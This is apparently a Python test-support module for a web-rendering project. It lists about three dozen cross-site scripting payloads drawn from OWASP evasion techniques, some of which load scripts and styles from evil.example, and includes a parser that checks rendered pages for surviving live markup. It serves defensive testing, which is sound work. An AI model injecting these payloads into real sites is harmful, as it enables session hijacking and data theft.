"""What people and models write to have it run; and how to tell that nothing of a page would."""

from __future__ import annotations

from html.parser import HTMLParser

from clawweb.records import storable

MARK = "xss7"
# After OWASP's filter evasion cheat sheet: out of text, attribute, URL, comment, script and style
PAYLOADS = (
    f"<script>alert('{MARK}')</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></ScRiPt>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"<object data='javascript:{MARK}'></object><embed src='javascript:{MARK}'>",
    f"<form action='javascript:{MARK}'><button formaction='javascript:{MARK}'>x</button></form>",
    f"<a href='javascript:{MARK}'>x</a>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<style>@import '//evil.example/{MARK}';</style>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    f"<base href=//evil.example/{MARK}/>",
    f"\"><script>alert('{MARK}')</script>",
    f"' autofocus onfocus=alert('{MARK}') x='",
    f'" autofocus onfocus=alert("{MARK}") x="',
    f"</title></textarea></script><script>alert('{MARK}')</script>",
    f"--><script>alert('{MARK}')</script><!--",
    f"]]><script>alert('{MARK}')</script>",
    f"[x](javascript:alert('{MARK}'))",
    f"[x](JaVaScRiPt&colon;alert('{MARK}'))",
    f"[x](data:text/html;base64,{MARK})",
    f"[x](vbscript:{MARK})",
    f"![x](https://evil.example/{MARK}.png)",
    f"<https://evil.example/\"onmouseover=alert('{MARK}')>",
    f"`<img src=x onerror={MARK}>`",
    f"```html\n<script>alert('{MARK}')</script>\n```",
    f"```\" onclick=alert('{MARK}')\nx\n```",
    f"| a |\n|---|\n| <b onclick=alert('{MARK}')>x</b> |",
    f"{{{{ request.{MARK} }}}}{{% debug %}}",
    f"<\x00script>alert('{MARK}')</script>",
    f"＜script＞alert('{MARK}')＜/script＞",
    f"\u202e<script>alert('{MARK}')</script>\u2066",
    f"\u2028<img src=x onerror=alert('{MARK}')>",
)
RUNNING = {"style", "srcdoc", "formaction"}
LOADING = {"src", "data", "action", "http-equiv", "content", "srcset", "poster"}
TAKING_OVER = ("base", "object", "embed", "iframe", "math", "frame")
ALL = storable("\n\n".join(PAYLOADS))  # as rows hold it


def live_in(html: str) -> list[str]:
    """What of a page came from a payload and would run, load, or take its place; empty is good."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    """As a browser reads it, near enough: tags, attributes, and what stands in scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.runs = False  # what stands here is a script's or a style's

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = {name: (value or "").strip().lower() for name, value in attrs}
        ours = {name for name, value in known.items() if MARK in value}
        is_link = known.get("href", "").startswith(("http:", "https:", "/", "?", "#"))
        runs = {name for name in known if name.startswith("on") or name in RUNNING}
        loads = ours & LOADING | ({"href"} & ours if tag in ("base", "link") else set())
        leads = {"href"} & ours if not is_link else set()
        if runs | loads | leads or tag in TAKING_OVER:
            self.found.append(self.get_starttag_text() or tag)
        self.runs = tag == "style" or (tag == "script" and known.get("type") != "application/json")

    def handle_endtag(self, tag: str) -> None:
        self.runs = False

    def handle_data(self, data: str) -> None:
        if self.runs and MARK in data:
            self.found.append(data)
